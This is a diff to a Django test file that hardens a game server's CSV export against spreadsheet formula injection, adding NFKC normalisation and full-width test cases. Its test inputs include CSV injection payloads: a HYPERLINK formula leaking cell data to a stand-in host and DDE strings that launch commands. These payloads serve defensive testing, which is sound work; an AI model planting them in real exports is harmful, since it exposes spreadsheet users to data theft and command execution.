@@ -1,5 +1,6 @@
 """CSV exports are opened in spreadsheets: a text cell that starts a formula (= + - @, a tab, a carriage return)
-is written with a leading single quote (OWASP's CSV injection advice), in the API's export and in
+is written with a leading single quote (OWASP's CSV injection advice), judged after NFKC normalisation (a
+full-width ＝ is an = to a spreadsheet), in the API's export and in
 `export_rounds` alike. Reading the file back removes the quote, so the round trip still equals the live
 numbers; JSON lines and Parquet keep the exact values."""
 
@@ -7,13 +8,14 @@ from __future__ import annotations
 
 import csv
 import io
+import unicodedata
 from pathlib import Path
 
 import pytest
 from django.contrib.auth.models import User
 from django.core.management import call_command
 from django.test import Client
-from hypothesis import given
+from hypothesis import example, given
 from hypothesis import strategies as st
 
 from gameserver.games.models import Player, Round
@@ -25,8 +27,10 @@ from gameserver.stats.selectors import benchmark_from_rows, round_rows
 from gameserver.stats.simulation import rounds_simulate
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+# Full-width and small forms (＝ ＋ ﹣ ＠) are the ASCII ones once a spreadsheet normalises them (NFKC).
 HOSTILE_NAMES = ['=HYPERLINK("//evil.example/?"&A2,"x")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-                 "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=already quoted", "plain"]
+                 "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=already quoted", "plain", "\uff1d1+1",
+                 "\uff0bcmd|' /C calc'!A0", "\ufe63SUM(1)", "\uff20SUM(1)"]
 TEXT = {column.name for column in COLUMNS if column.kind in ("str", "datetime")}
 
 pytestmark = pytest.mark.django_db(transaction=True)
@@ -54,7 +58,7 @@ def assert_no_cell_starts_a_formula(data: str) -> None:
     for row in table:
         for name, cell in row.items():
             if name in TEXT:
-                assert not cell.startswith(FORMULA_STARTS), (name, cell)
+                assert not unicodedata.normalize("NFKC", cell).startswith(FORMULA_STARTS), (name, cell)
             elif cell:  # numbers stay numbers (a negative one included): they cannot hold a formula
                 assert cell in ("True", "False") or float(cell) == float(cell), (name, cell)
 
@@ -89,7 +93,9 @@ def test_jsonl_and_parquet_keep_the_exact_values(fmt, hostile, tmp_path):
 
 
 @given(st.text())
+@example("\uff1d1+1")  # full-width '=': passed unquoted before NFKC was applied
+@example("\uff0bcmd|' /C calc'!A0")
 def test_any_text_cell_is_neutralised_and_restored(text: str) -> None:
     cell = csv_cell_neutralise(text)
-    assert not cell.startswith(FORMULA_STARTS)
+    assert not unicodedata.normalize("NFKC", cell).startswith(FORMULA_STARTS)
     assert csv_cell_restore(cell) == text
